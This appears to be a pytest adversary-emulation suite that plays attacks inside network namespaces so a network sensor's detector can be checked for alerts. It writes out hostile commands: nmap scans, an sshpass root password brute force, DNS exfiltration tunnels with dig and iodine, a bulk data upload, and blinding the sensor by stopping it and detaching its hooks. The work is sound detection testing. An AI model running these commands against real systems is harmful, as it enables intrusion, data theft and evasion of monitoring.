"""Adversary emulation: each seed behaviour played with real tools in network
namespaces shaped like a node with pods (tests/live/test_k8s.py's Cluster: a
node namespace routing three pod namespaces and an outside one, kubelet-shaped
cgroups, the fake API server for identities), recorded by the real sensor,
and detected by build/nettrail-detect from the records alone.

One sensor run records every scenario in turn (module fixture `world`); the
detector then reads the records file once with short windows
(tests/emulation/emulation.conf: the time-based anchors, an hour or a day, are
scaled down to seconds, and said so there), and each test asserts its alert:
rule.name, the source pod, and evidence record ids that are records of that
behaviour. The benign traffic (browsing, ordinary DNS, a database client) must
raise nothing. One scenario goes through the real Kafka broker
(tests/kafka/broker.sh): the same records on the sensor's three topics, read
by the detector's consumer. The beacon is a generated day-long capture
replayed with --pcap (tests/emulation/beacon_pcap.py), with kubelet-style
probes every 10 s beside it that must not score.
"""
import json
import os
import signal
import subprocess
import sys
import time
import uuid
from datetime import datetime, timezone
from pathlib import Path

import pytest

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent / "live"))

from conftest import NETTRAIL, ROOT, Broker, read_records, sh, tcx_links  # noqa: E402
from test_k8s import NODE4, OUT4, PODS, Cluster  # noqa: E402

DETECT = ROOT / "build" / "nettrail-detect"
CONF = HERE / "emulation.conf"
OUT_NEW = "203.0.113.11"   # a second outside address: the new destination
OUT_IOD = "203.0.113.12"   # iodined's address
WEB, DB, DBG = (PODS[t]["v4"] for t in ("web", "db", "dbg"))
B32 = "abcdefghijklmnopqrstuvwxyz234567"


def pod(tag):
    return PODS[tag]["pod"]


class World:
    """The cluster, the scenarios' servers and clients, the records, the alerts."""

    def __init__(self, tmp):
        self.tmp = tmp
        self.c = Cluster(tmp, sensor_args=("--active-timeout", "2"))
        self.t = self.c.topo
        self.out = self.c.ns["out"]
        for a in (OUT_NEW, OUT_IOD):
            self.t.run(self.out, "ip", "addr", "add", a + "/24", "dev", "eth0")
        self.marks = {}

    def mark(self, name):
        """Record index and wall time when a scenario starts."""
        self.marks[name] = (len(self.c.records()), time.time())

    def pod(self, tag, *cmd, timeout=60, check=False):
        p = self.c.in_pod(tag, *cmd, stdout=None)
        out, _ = p.communicate(timeout=timeout)
        assert not check or p.returncode == 0, f"{cmd}: rc={p.returncode}"
        return out.decode(errors="replace")

    def bg(self, ns, *cmd):
        return self.t.spawn(ns, *cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    def py(self, ns, code, *args):
        return self.bg(ns, sys.executable, "-c", code, *args)


# a crafted server: banner first (VNC), or answer the first bytes (RDP, Stratum)
SERVER = r"""
import socket, sys
port, banner, reply = int(sys.argv[1]), sys.argv[2].encode().decode('unicode_escape').encode('latin1'), sys.argv[3].encode().decode('unicode_escape').encode('latin1')
s = socket.socket(socket.AF_INET6); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("::", port)); s.listen(8)
while True:
    c, _ = s.accept()
    if banner: c.sendall(banner)
    c.settimeout(3)
    try:
        if c.recv(4096) and reply: c.sendall(reply)
    except OSError: pass
    c.close()
"""

CLIENT = r"""
import socket, sys, time
host, port, first, hold = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode().decode('unicode_escape').encode('latin1'), float(sys.argv[4])
c = socket.create_connection((host, port), timeout=5)
if first == b"READ": c.recv(64); first = b"RFB 003.008\n"
c.sendall(first)
try: c.recv(4096)
except OSError: pass
end = time.time() + hold
while time.time() < end:  # a byte every 0.5 s: the flow stays active, never idle
    c.sendall(b"."); time.sleep(0.5)
c.close()
"""


def sshd(w):
    d = w.tmp / "sshd"
    d.mkdir()
    sh("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(d / "key"))
    (d / "cfg").write_text(f"HostKey {d}/key\nPidFile {d}/pid\nUsePAM no\n"
                           "PasswordAuthentication yes\nPermitRootLogin yes\n")
    os.makedirs("/run/sshd", exist_ok=True)
    return w.t.spawn(w.c.ns["web"], "/usr/sbin/sshd", "-D", "-e", "-f", str(d / "cfg"), "-p",
                     "22", stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def wait_listen(w, ns, port, udp=False):
    w.c.wait_for(lambda: w.t.run(ns, "ss", "-lnu" if udp else "-lnt", f"sport = :{port}",
                                 check=False).stdout.count(":%d" % port) > 0, 10, f"port {port}")


def play(w):
    """Every scenario in turn, against one sensor run."""
    c, t, out = w.c, w.t, w.out
    # servers outside and in pods
    dns = w.bg(out, "dnsmasq", "--no-daemon", "--no-resolv", "--no-hosts", "--bind-interfaces",
               f"--listen-address={OUT4}", "--address=/example.net/203.0.113.10",
               "--address=/example.com/203.0.113.10", "--pid-file=")
    iod = w.bg(out, "iodined", "-f", "-c", "-P", "emulation", "-l", OUT_IOD, "10.250.0.1",
               "tunnel.example.org")
    w.py(out, SERVER, "14444", "", '{"id":1,"result":[[],"08000002",4],"error":null}\\n')
    w.bg(out, "socat", "-u", "TCP-LISTEN:7000,fork,reuseaddr", "OPEN:/dev/null")
    w.bg(out, "socat", "-u", "TCP-LISTEN:7001,fork,reuseaddr", "OPEN:/dev/null")
    w.py(c.ns["db"], SERVER, "5901", "RFB 003.008\\n", "\\x01\\x02")
    w.py(c.ns["db"], SERVER, "3390", "", "\\x03\\x00\\x00\\x13\\x0e\\xd0" + "\\x00" * 13)
    ssh = sshd(w)
    for ns, port, udp in ((out, 53, True), (out, 14444, False), (out, 7000, False),
                          (c.ns["db"], 5901, False), (c.ns["db"], 3390, False),
                          (c.ns["web"], 22, False)):
        wait_listen(w, ns, port, udp)

    # benign: kubelet-style probes of web from the node every second, all along (a node
    # is never silent, and sensor_blind's no_packets must not take a quiet spell for it)
    w.bg(c.node, "sh", "-c", f"while :; do curl -s -o /dev/null --max-time 1 "
         f"http://{WEB}:8080/healthz; sleep 1; done")
    # benign: browsing, ordinary DNS, a database client (these start web's learning window)
    w.mark("benign")
    for _ in range(3):
        c.curl_in_pod("web", f"http://{OUT4}/")
    for name in ("www.example.com", "api.example.com", "cdn.example.net"):
        w.pod("web", "dig", "+tries=1", "+time=1", f"@{OUT4}", name, "A")
    c.curl_in_pod("dbg", f"http://{DB}:5432/")
    c.curl_in_pod("db", f"http://{OUT4}/")  # db's quiet baseline starts (egress_spike)
    learning_start = time.time()

    # port scans: SYN (dbg -> web), connect (db -> dbg), UDP (web -> db)
    w.mark("syn_scan")
    w.pod("dbg", "nmap", "-sS", "-Pn", "-n", "-T5", "--max-retries", "0", "-p", "1-100", WEB)
    w.mark("connect_scan")
    w.pod("db", "nmap", "-sT", "-Pn", "-n", "-T5", "--max-retries", "0", "-p", "1-60", DBG)
    w.mark("udp_scan")
    w.pod("web", "nmap", "-sU", "-Pn", "-n", "-T5", "--max-retries", "0", "-p", "1-40", DB)
    # address scan: 30 hosts of a pod subnet nobody uses, port 80, from dbg
    w.mark("address_scan")
    w.pod("dbg", "nmap", "-sS", "-Pn", "-n", "-T5", "--max-retries", "0", "-p", "443",
          "10.244.9.1-30")

    # remote access: an sshpass brute force against sshd in web; VNC and RDP into db
    w.mark("ssh")
    for pw in ("123456", "password", "root"):
        w.pod("dbg", "sshpass", "-p", pw, "ssh", "-o", "StrictHostKeyChecking=no",
              "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=5",
              "-o", "PreferredAuthentications=password", f"root@{WEB}", "true")
    w.mark("vnc_rdp")
    t.run(out, sys.executable, "-c", CLIENT, PODS["db"]["v4"], "5901", "READ", "0")
    t.run(out, sys.executable, "-c", CLIENT, PODS["db"]["v4"], "3390",
          "\\x03\\x00\\x00\\x13\\x0e\\xe0\\x00\\x00\\x00\\x00\\x00\\x01\\x00\\x08\\x00\\x03"
          "\\x00\\x00\\x00", "0")

    # a Stratum miner on a non-standard port, from web
    w.mark("stratum")
    w.pod("web", sys.executable, "-c", CLIENT, OUT4, "14444",
          '{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5.1"]}\\n', "0")

    # DNS tunnels: a dig loop exfiltrating base32 labels (dbg), iodine through iodined (web)
    w.mark("dig_tunnel")
    loop = " ".join(
        "".join(B32[(i * 7 + j * 13) % 32] for j in range(48)) + ".x.tunnel.example.net"
        for i in range(30))
    w.pod("dbg", "sh", "-c", f"for n in {loop}; do dig +tries=1 +time=1 @{OUT4} $n TXT; done",
          timeout=120)
    w.mark("iodine")
    for run in range(3):  # three sessions (each its own UDP source port)
        log = w.tmp / f"iodine-{run}.log"
        iodc = c.in_pod("web", "sh", "-c", f"exec iodine -f -r -L0 -m 1000 -P emulation "
                        f"{OUT_IOD} tunnel.example.org >{log} 2>&1")
        c.wait_for(lambda: log.exists() and "Connection setup complete" in log.read_text(), 20,
                   "iodine's tunnel")
        w.pod("web", "ping", "-c", "10", "-i", "0.2", "-W", "1", "10.250.0.1", timeout=30)
        iodc.send_signal(signal.SIGTERM)
        iodc.wait(timeout=10)

    # a long-lived connection (active reports every 2 s), from web
    w.mark("long")
    w.pod("web", sys.executable, "-c", CLIENT, OUT4, "7000", "hello", "7")

    # a new destination once web's learning window (10 s) is over
    time.sleep(max(0, learning_start + 11 - time.time()))
    w.mark("new_destination")
    c.curl_in_pod("web", f"http://{OUT_NEW}/")

    # bulk upload after a quiet baseline (5 s buckets): 4 MiB from db to the outside
    w.mark("egress")
    time.sleep(11)  # two quiet buckets of db's
    w.pod("db", "sh", "-c", f"head -c 4194304 /dev/zero | socat -u - TCP:{OUT4}:7001")
    time.sleep(3)

    # a blinded sensor: stopped for 6 s (heartbeat 1 s), then its TC hooks removed by hand
    # (its tcx links detached, as root can: bpftool link detach; clsact filters deleted)
    w.mark("sigstop")
    c.sensor.send_signal(signal.SIGSTOP)
    time.sleep(6)
    c.sensor.send_signal(signal.SIGCONT)
    time.sleep(2)
    w.mark("tc_removed")
    links = tcx_links(c.sensor.pid)
    assert len(links) == 8, links  # 4 interfaces, both directions
    for lid in links:
        sh("bpftool", "link", "detach", "id", str(lid))
    for ifn in ("pweb", "pdb", "pdbg", "pout"):
        for d in ("ingress", "egress"):
            t.run(c.node, "tc", "filter", "del", "dev", ifn, d, check=False)
    w.pod("web", "ping", "-c", "60", "-i", "0.2", OUT4, timeout=30)
    for p in (dns, iod, ssh):
        p.terminate()
    c.sensor.send_signal(signal.SIGTERM)
    c.sensor.wait(timeout=30)


def detect(args, stdin=None):
    r = subprocess.run([str(DETECT), *args], input=stdin, capture_output=True, text=True,
                       timeout=120)
    assert r.returncode == 0, r.stderr
    return [json.loads(l) for l in r.stdout.splitlines()], r.stderr


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    w = World(tmp_path_factory.mktemp("emu"))
    try:
        play(w)
        w.records = read_records(w.c.out_file)
        w.by_id = {r["nettrail"]["record_id"]: r for r in w.records}
        docs, w.stderr = detect(["--input", f"file:{w.c.out_file}", "--config", str(CONF)])
        w.alerts = [d for d in docs if d["event"]["kind"] == "alert"]
        keep = os.environ.get("NT_EMULATION_KEEP")  # a directory: records, marks, alerts
        if keep:
            Path(keep).mkdir(parents=True, exist_ok=True)
            sh("cp", str(w.c.out_file), keep)
            (Path(keep) / "marks.json").write_text(json.dumps(w.marks))
            (Path(keep) / "alerts.json").write_text(json.dumps(w.alerts))
        yield w
    finally:
        w.c.close()


def alerts(w, rule, src=None):
    return [a for a in w.alerts if a["rule"]["name"] == rule and
            (src is None or a["source"].get("ip") == src)]


def evidence(w, a):
    ev = a["nettrail"]["alert"]["evidence"]
    assert ev and all(i in w.by_id for i in ev), ev
    return [w.by_id[i] for i in ev]


def when(r):
    """A record's time: a flow's first packet, else its @timestamp (sensor clock = wall clock)."""
    t = r.get("nettrail", {}).get("flow", {}).get("start") or r["@timestamp"]
    return datetime.strptime(t, "%Y-%m-%dT%H:%M:%S.%fZ").replace(tzinfo=timezone.utc).timestamp()


def after(w, recs, mark):
    """Every record is of the scenario's own time (it began after the scenario did)."""
    return all(when(r) >= w.marks[mark][1] - 0.01 for r in recs)


def one(w, rule, src):
    got = alerts(w, rule, src)
    assert len(got) >= 1, [(a["rule"]["name"], a["source"].get("ip")) for a in w.alerts]
    return got[0]


@pytest.mark.parametrize("mark,src,dst,tag", [
    ("syn_scan", DBG, WEB, "dbg"), ("connect_scan", DB, DBG, "db"), ("udp_scan", WEB, DB, "web")])
def test_port_scans(world, mark, src, dst, tag):
    a = [x for x in alerts(world, "port_scan", src) if x["destination"]["ip"] == dst]
    assert len(a) == 1
    assert a[0]["source"]["kubernetes"]["pod"]["name"] == pod(tag)
    ev = evidence(world, a[0])
    assert len(ev) == 15 and after(world, ev, mark)  # port_scan.threshold
    assert {(r["source"]["ip"], r["destination"]["ip"]) for r in ev} == {(src, dst)}
    want = "udp" if mark == "udp_scan" else "tcp"
    assert {r["network"]["transport"] for r in ev} == {want}


def test_address_scan(world):
    a = alerts(world, "address_scan", DBG)
    assert len(a) == 1 and a[0]["source"]["kubernetes"]["pod"]["name"] == pod("dbg")
    ev = evidence(world, a[0])
    assert after(world, ev, "address_scan")
    assert all(r["destination"]["ip"].startswith("10.244.9.") and r["destination"]["port"] == 443
               for r in ev)
    assert a[0]["nettrail"]["alert"]["address_scan"]["hosts_count"] >= 20


def test_ssh_brute_force_into_pod(world):
    a = [x for x in alerts(world, "remote_access_in_container", DBG)
         if x["network"]["protocol"] == "ssh"]
    assert len(a) == 1
    assert a[0]["source"]["kubernetes"]["pod"]["name"] == pod("dbg")
    assert a[0]["destination"]["kubernetes"]["pod"]["name"] == pod("web")
    ev = evidence(world, a[0])
    assert ev[0]["network"]["protocol"] == "ssh" and ev[0]["destination"]["port"] == 22
    assert after(world, ev, "ssh")


@pytest.mark.parametrize("proto,port", [("vnc", 5901), ("rdp", 3390)])
def test_vnc_rdp_into_pod(world, proto, port):
    a = [x for x in alerts(world, "remote_access_in_container", OUT4)
         if x["network"]["protocol"] == proto]
    assert len(a) == 1
    assert a[0]["destination"]["kubernetes"]["pod"]["name"] == pod("db")
    assert "kubernetes" not in a[0]["source"]  # from outside the cluster
    ev = evidence(world, a[0])
    assert ev[0]["destination"]["port"] == port and after(world, ev, "vnc_rdp")


def test_stratum_miner(world):
    a = alerts(world, "crypto_mining", WEB)
    assert len(a) == 1 and a[0]["source"]["kubernetes"]["pod"]["name"] == pod("web")
    ev = evidence(world, a[0])
    assert ev[0]["destination"]["port"] == 14444 and ev[0]["network"]["protocol"] == "stratum"


def test_dig_loop_tunnel(world):
    a = [x for x in alerts(world, "dns_tunnel", DBG)
         if x["destination"]["domain"] == "example.net"]
    assert len(a) == 1 and a[0]["source"]["kubernetes"]["pod"]["name"] == pod("dbg")
    d = a[0]["nettrail"]["alert"]["dns_tunnel"]
    assert "suspicious_labels" in d["signals"] and d["max_label_length"] == 48
    ev = evidence(world, a[0])
    assert all(r["event"]["dataset"] == "nettrail.dns" and
               r["dns"]["question"]["registered_domain"] == "example.net" for r in ev)
    assert after(world, ev, "dig_tunnel")


def test_iodine_tunnel(world):
    a = [x for x in alerts(world, "dns_tunnel", WEB)
         if x["destination"]["domain"] == "example.org"]
    assert len(a) == 1 and a[0]["source"]["kubernetes"]["pod"]["name"] == pod("web")
    ev = evidence(world, a[0])
    assert all(r["dns"]["question"]["name"].endswith("tunnel.example.org") for r in ev)
    assert after(world, ev, "iodine")
    # the tunnel's data, not only its handshake: iodine's upstream queries
    # carry binary labels (\\DDD escapes, names past 253 characters), one
    # or more per ping through the tunnel (3 sessions of 10 pings)
    tun = [r for r in world.records if r["event"]["dataset"] == "nettrail.dns"
           and r["dns"]["question"]["name"].endswith(".tunnel.example.org")]
    data = [r for r in tun if "\\" in r["dns"]["question"]["name"]]
    assert len(data) >= 30, (len(tun), len(data))
    assert max(len(r["dns"]["question"]["name"]) for r in data) > 253
    assert all(r["dns"]["question"]["registered_domain"] == "example.org" for r in data)


def test_long_connection(world):
    a = [x for x in alerts(world, "long_connection", WEB) if x["destination"]["port"] == 7000]
    assert len(a) == 1 and a[0]["source"]["kubernetes"]["pod"]["name"] == pod("web")
    ev = evidence(world, a[0])
    assert ev[0]["nettrail"]["flow"]["end_reason"] in ("active", "tcp_close")
    assert a[0]["nettrail"]["alert"]["long_connection"]["duration_s"] >= 5


def test_new_destination(world):
    a = [x for x in alerts(world, "new_destination", WEB) if x["destination"]["ip"] == OUT_NEW]
    assert len(a) == 1 and a[0]["source"]["kubernetes"]["pod"]["name"] == pod("web")
    assert a[0]["nettrail"]["alert"]["new_destination"]["workload"] == "shop/web"
    assert after(world, evidence(world, a[0]), "new_destination")
    # learnt during the window: no alert for the browsing destination
    assert not [x for x in alerts(world, "new_destination") if x["destination"]["ip"] == OUT4
                and x["destination"].get("port") == 80]


def test_egress_spike(world):
    a = alerts(world, "egress_spike", DB)
    assert len(a) == 1 and a[0]["source"]["kubernetes"]["pod"]["name"] == pod("db")
    d = a[0]["nettrail"]["alert"]["egress_spike"]
    assert d["bucket_bytes"] >= 4194304 and d["workload"] == "shop/db"
    ev = evidence(world, a[0])
    assert any(r["destination"]["port"] == 7001 for r in ev) and after(world, ev, "egress")


def test_sensor_blind(world):
    by = {}
    for x in alerts(world, "sensor_blind"):
        by.setdefault(x["nettrail"]["alert"]["sensor_blind"]["reason"], []).append(x)
    assert set(by) >= {"heartbeat_missing", "no_packets"}, sorted(by)
    # the stop: the silence starts at the last heartbeat before SIGSTOP (event.start,
    # the second evidence record) and is seen when newer records or the late heartbeat
    # come in after SIGCONT
    t0 = world.marks["sigstop"][1]
    stop = [x for x in by["heartbeat_missing"]
            if t0 - 1.5 <= when({"@timestamp": x["event"]["start"]}) <= t0]
    assert len(stop) == 1 and stop[0]["observer"]["hostname"] == "node-1", by
    assert evidence(world, stop[0])[1]["@timestamp"] == stop[0]["event"]["start"]
    assert stop[0]["nettrail"]["alert"]["sensor_blind"]["silent_s"] >= 3  # 3 intervals of 1 s
    assert [r["event"]["dataset"] for r in evidence(world, stop[0])] == ["nettrail.heartbeat"] * 2
    # the filters removed by hand: packets stop moving while probes and pings go on
    assert [x for x in by["no_packets"] if after(world, evidence(world, x)[1:], "tc_removed")]


def test_benign_raises_nothing(world):
    """Browsing (web -> outside:80), ordinary DNS names, the database client
    (dbg -> db:5432), the node's probes of web every second: none of their
    records is the evidence of any alert."""
    def benign(r):
        if r["event"]["dataset"] == "nettrail.dns":
            return r["dns"]["question"]["name"] in ("www.example.com", "api.example.com",
                                                    "cdn.example.net")
        if r["event"]["dataset"] != "nettrail.flow":
            return False
        s, d = r["source"]["ip"], r["destination"]["ip"]
        port = r["destination"].get("port")
        probe = d == WEB and port == 8080 and "kubernetes" not in r["source"]
        return (s in (WEB, DB) and d == OUT4 and port == 80) or (s == DBG and d == DB
                                                                 and port == 5432) or probe
    ids = {r["nettrail"]["record_id"] for r in world.records if benign(r)}
    assert len(ids) >= 40  # with the node's probes
    used = {i for a in world.alerts for i in a["nettrail"]["alert"]["evidence"]}
    assert not ids & used
    assert not alerts(world, "beaconing")


def test_through_kafka(world, tmp_path):
    """The same records on the sensor's three topics, read by the detector's consumer."""
    d = tmp_path / "broker"
    d.mkdir()
    with Broker(d) as boot:
        prefix = "emu%s." % uuid.uuid4().hex[:6]
        for ds in ("flow", "dns", "heartbeat"):
            f = tmp_path / f"{ds}.jsonl"
            f.write_text("".join(json.dumps(x) + "\n" for x in world.records
                                 if x["event"]["dataset"] == "nettrail." + ds))
            sh("kcat", "-P", "-b", boot, "-t", prefix + ds, "-l", str(f), timeout=60)
        docs, err = detect(["--input", "kafka", "--kafka-brokers", boot, "--kafka-topic-prefix",
                            prefix, "--kafka-idle-exit", "4", "--heartbeat", "0",
                            "--config", str(CONF)])
    rules = ("port_scan", "remote_access_in_container", "crypto_mining")
    kafka = {(a["rule"]["name"], a["nettrail"]["alert"]["key"]): a["nettrail"]["alert"]["evidence"]
             for a in docs if a["event"]["kind"] == "alert" and a["rule"]["name"] in rules}
    files = {(a["rule"]["name"], a["nettrail"]["alert"]["key"]): a["nettrail"]["alert"]["evidence"]
             for a in world.alerts if a["rule"]["name"] in rules}
    assert kafka == files and len(files) >= 6, (sorted(kafka), sorted(files))


def test_beacon_day_replayed(tmp_path):
    """A jittered 5-minute beacon over 24 h from the dbg pod's address, kubelet
    probes from the node every 10 s beside it: --pcap replay, then the detector
    with its default beacon settings (RITA's day, 24 hourly bins)."""
    pcap = tmp_path / "beacon.pcap"
    sh(sys.executable, str(HERE / "beacon_pcap.py"), str(pcap), DBG, NODE4, WEB)
    out = tmp_path / "beacon.jsonl"
    sh(str(NETTRAIL), "--pcap", str(pcap), "-o", f"file:{out}", "--cluster-cidr",
       "10.244.0.0/16", "--service-cidr", "10.96.0.0/12", "--node-name", "node-1",
       "--active-timeout", "0", timeout=120)
    docs, _ = detect(["--input", f"file:{out}"])
    b = [a for a in docs if a["event"]["kind"] == "alert"]
    assert [a["rule"]["name"] for a in b] == ["beaconing"], [a["rule"]["name"] for a in b]
    assert b[0]["source"]["ip"] == DBG and b[0]["destination"]["ip"] == "198.51.100.77"
    assert b[0]["nettrail"]["alert"]["beaconing"]["score"] >= 0.7
    recs = {r["nettrail"]["record_id"]: r for r in read_records(out)}
    ev = [recs[i] for i in b[0]["nettrail"]["alert"]["evidence"]]
    assert len(ev) == 20 and {r["destination"]["port"] for r in ev} == {443}
